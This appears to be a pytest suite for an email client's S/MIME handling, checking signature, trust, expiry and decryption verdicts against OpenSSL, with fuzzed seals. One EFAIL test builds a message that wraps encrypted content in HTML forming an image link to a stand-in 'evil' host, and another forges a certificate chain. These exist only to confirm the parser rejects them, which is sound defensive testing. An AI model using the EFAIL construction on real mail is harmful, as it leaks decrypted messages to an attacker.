"""S/MIME read: the same verdicts and texts as `openssl cms`, on the bytes as received; what is altered or hostile is told."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from sync.model.faults import Unreadable
from sync.model.seals import Layer, Opened, Scheme, Standing, Step
from sync.parse import mail, seals
from sync.parse.tree import parse
from tests.engine import openssl
from tests.engine.openssl import CURVE, Authority, Person, crlf, encrypted, says_good, signed

HEAD = b"From: Claire Martin <claire@exemple.fr>\r\nTo: alice@exemple.fr\r\nSubject: Arbitrage\r\n"
ENTITY = crlf(
    "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\nLe budget est arrêté.\n".encode()
)
NOW = int(time.time()) + 3600


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return Authority(tmp_path_factory.mktemp("authority"))


@pytest.fixture(scope="module")
def claire(authority: Authority) -> Person:
    return authority.person("claire@exemple.fr")


@pytest.fixture(scope="module")
def other(authority: Authority) -> Person:
    return authority.person("autre@exemple.fr")


def opened(message: bytes, authority: Authority, now: int = NOW) -> Opened:
    found = seals.unsealed("verify", message, authority.anchors, now)
    assert isinstance(found, Opened)
    return found


def message(entity: bytes) -> bytes:
    """The entity as a message of Claire's."""
    return HEAD + entity


@pytest.mark.parametrize(
    "words",
    [(), ("-md", "sha512"), ("-keyid",), ("-keyopt", "rsa_padding_mode:pss"), ("-noattr",), ("-md", "sha384", "-stream")],
    ids=["plain", "sha512", "keyid", "pss", "noattr", "stream"],
)
def test_what_openssl_signs_is_good(authority: Authority, claire: Person, words: tuple[str, ...]) -> None:
    made = message(signed(claire, ENTITY, *words, chain=authority.middle))
    assert says_good(made, authority)[0]
    layer = seals.layer(made)
    assert layer == Layer(Scheme.SMIME, Step.VERIFY, "claire@exemple.fr", beside=True)
    (found,) = opened(made, authority).signatures
    assert (found.standing, found.name, found.addresses) == (Standing.TRUSTED, "Claire Martin", ("claire@exemple.fr",))
    assert "intermédiaire" in found.issuer


def test_an_opaque_signature_gives_its_text(authority: Authority, claire: Person) -> None:
    made = message(signed(claire, ENTITY, "-nodetach", chain=authority.middle))
    good, inside = says_good(made, authority)
    assert good
    found = opened(made, authority)
    assert found.signatures[0].standing is Standing.TRUSTED
    assert found.message.endswith(inside.partition(b"\r\n\r\n")[2])
    assert mail.content(found.message).text.strip() == "Le budget est arrêté."
    assert mail.content(found.message).envelope.subject == "Arbitrage"


def test_keys_on_curves_sign_too(authority: Authority) -> None:
    person = authority.person("yann@exemple.fr", "Yann", key=CURVE)
    made = message(signed(person, ENTITY, chain=authority.middle))
    assert says_good(made, authority)[0]
    assert opened(made, authority).signatures[0].standing is Standing.TRUSTED


@pytest.mark.parametrize("change", [(b"budget", b"Budget"), (b"arr", b"arrr"), (b"8bit\r\n\r\n", b"8bit\r\n\r\n\r\n")])
def test_a_letter_that_was_altered_is_told(authority: Authority, claire: Person, change: tuple[bytes, bytes]) -> None:
    made = message(signed(claire, ENTITY, chain=authority.middle)).replace(*change, 1)
    assert not says_good(made, authority)[0]
    assert opened(made, authority).signatures[0].standing is Standing.BROKEN


def test_line_ends_lost_on_the_way_are_given_back(authority: Authority, claire: Person) -> None:
    made = message(signed(claire, ENTITY, chain=authority.middle)).replace(b"\r\n", b"\n")
    assert opened(made, authority).signatures[0].standing is Standing.TRUSTED


def test_an_authority_that_nobody_knows_is_not_trusted(tmp_path: Path, authority: Authority) -> None:
    strangers = Authority(tmp_path / "strangers", "AC inconnue")
    made = message(signed(strangers.person("claire@exemple.fr", key=CURVE), ENTITY, chain=strangers.middle))
    assert not says_good(made, authority)[0]
    assert opened(made, authority).signatures[0].standing is Standing.UNTRUSTED


def test_without_the_certificates_between_nothing_leads_to_the_root(authority: Authority, claire: Person) -> None:
    made = message(signed(claire, ENTITY))
    assert not says_good(made, authority)[0]
    assert opened(made, authority).signatures[0].standing is Standing.UNTRUSTED


def test_a_person_is_no_authority(authority: Authority, claire: Person, tmp_path: Path) -> None:
    """Claire's certificate issues one for the minister: nobody may believe it."""
    forged = Authority.__new__(Authority)
    forged.folder = authority.folder
    (authority.folder / "claire-ca.pem").write_bytes(claire.certificate.read_bytes())
    (authority.folder / "claire-ca.key").write_bytes(claire.key.read_bytes())
    forged._signed("Ministre", "ministre", "mail", "claire-ca", address="ministre@exemple.fr")
    chain = tmp_path / "chain.pem"
    chain.write_bytes(claire.certificate.read_bytes() + authority.middle.read_bytes())
    minister = Person("", authority.folder / "ministre.pem", authority.folder / "ministre.key", claire.both)
    made = message(signed(minister, ENTITY, chain=chain))
    assert not says_good(made, authority)[0]
    assert opened(made, authority).signatures[0].standing is Standing.UNTRUSTED


def test_a_certificate_for_web_servers_signs_no_mail(authority: Authority) -> None:
    person = authority.person("web@exemple.fr", purpose="serverAuth", key=CURVE)
    made = message(signed(person, ENTITY, chain=authority.middle))
    assert opened(made, authority).signatures[0].standing is Standing.UNTRUSTED


def test_a_certificate_that_has_ended_is_said_to_have(authority: Authority, claire: Person) -> None:
    made = message(signed(claire, ENTITY, chain=authority.middle))
    assert opened(made, authority, NOW + 300 * 86400).signatures[0].standing is Standing.TRUSTED
    assert opened(made, authority, NOW + 366 * 86400).signatures[0].standing is Standing.EXPIRED


def test_methods_that_can_be_forged_are_called_weak(authority: Authority, claire: Person) -> None:
    made = message(signed(claire, ENTITY, "-md", "sha1", chain=authority.middle))
    assert opened(made, authority).signatures[0].standing is Standing.WEAK


@pytest.mark.parametrize("cipher", ["-aes-128-cbc", "-aes-256-cbc", "-des3", "-aes-256-gcm"])
def test_what_openssl_encrypts_opens_with_the_key_of_its_content(claire: Person, other: Person, cipher: str) -> None:
    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    from sync.engine.seals import smime

    made = message(encrypted(ENTITY, other, claire, cipher=cipher))
    layer = seals.layer(made)
    assert layer is not None
    assert layer.step is Step.DECRYPT
    key = load_pem_private_key(claire.key.read_bytes(), None)
    certificate = openssl.run("x509", "-in", str(claire.certificate), "-outform", "DER")
    (mine,) = [one for one in layer.recipients if smime.is_for(one, certificate)]
    unwrapped = smime.unwrapped(mine, key)  # type: ignore[arg-type]
    assert unwrapped is not None
    found = seals.decrypted(made, unwrapped)
    assert openssl.decrypted(made, claire) == ENTITY
    assert mail.content(found.message).text.strip() == "Le budget est arrêté."
    assert mail.content(found.message).envelope.subject == "Arbitrage"
    with pytest.raises(Unreadable):
        seals.decrypted(made, bytes(len(unwrapped)))


def test_keys_wrapped_with_oaep_open(authority: Authority, claire: Person) -> None:
    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    from sync.engine.seals import smime

    oaep = ("-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256")
    made = message(encrypted(ENTITY, claire, words=oaep))
    layer = seals.layer(made)
    assert layer is not None
    (mine,) = layer.recipients
    assert (mine.wrap, mine.digest) == ("rsa-oaep", "sha256")
    key = smime.unwrapped(mine, load_pem_private_key(claire.key.read_bytes(), None))  # type: ignore[arg-type]
    assert key is not None
    assert b"budget" in seals.decrypted(made, key).message


def test_a_sealed_part_beside_others_stays_an_attachment(authority: Authority, claire: Person) -> None:
    """EFAIL: what is encrypted is never joined with HTML around it, and what lies beside a signature is not signed."""
    secret = encrypted(ENTITY, claire)
    mixed = (
        b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="http://evil/'
        b"\r\n--x\r\n" + secret + b'\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n'
    )
    assert seals.layer(message(mixed)) is None
    found = mail.content(message(mixed))
    assert found.seal is None
    assert [one.name for one in found.attachments] == ["smime.p7m"]
    footer = (
        b'Content-Type: multipart/mixed; boundary="y"\r\n\r\n--y\r\n' + signed(claire, ENTITY, chain=authority.middle)
        + b"\r\n--y\r\nContent-Type: text/plain\r\n\r\nVirement urgent\r\n--y--\r\n"
    )  # fmt: skip
    assert seals.layer(message(footer)) is None


def test_an_extra_part_is_not_covered_by_a_signature(authority: Authority, claire: Person) -> None:
    made = signed(claire, ENTITY, chain=authority.middle)
    mark = b"--" + parse(made).parameters["boundary"].encode()
    grown = made.replace(mark + b"--", mark + b"\r\nContent-Type: text/plain\r\n\r\nVirement urgent\r\n" + mark + b"--")
    assert seals.layer(message(grown)) is None


@pytest.mark.parametrize("size", [1, 10, 1500])
def test_whatever_is_sent_as_a_seal_ends_in_a_fault(authority: Authority, claire: Person, size: int) -> None:
    import base64
    import random

    der = base64.b64decode(signed(claire, ENTITY, "-nodetach").split(b"\r\n\r\n", 1)[1])
    chance = random.Random(size)
    for turn in range(16):
        cut = bytearray(der[:size] if turn % 2 else der)
        for _ in range(1 + turn % 5):
            if cut:
                cut[chance.randrange(len(cut))] = chance.randrange(256)
        for kind in ("signed-data", "enveloped-data"):
            made = f"Content-Type: application/pkcs7-mime; smime-type={kind}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            hostile = message(made.encode() + base64.encodebytes(bytes(cut)))
            try:
                layer = seals.layer(hostile)
                if layer is not None and layer.step is Step.VERIFY:
                    assert all(
                        one.standing is not Standing.TRUSTED or b"arr\xc3\xaat" in opened(hostile, authority).message
                        for one in opened(hostile, authority).signatures
                    )
            except Unreadable:
                continue


def test_certificates_of_a_file_are_described(authority: Authority, claire: Person) -> None:
    (found,) = seals.certificates(claire.certificate.read_bytes())
    assert (found.name, found.addresses) == ("Claire Martin", ("claire@exemple.fr",))
    with pytest.raises(Unreadable):
        seals.certificates(b"bonjour")
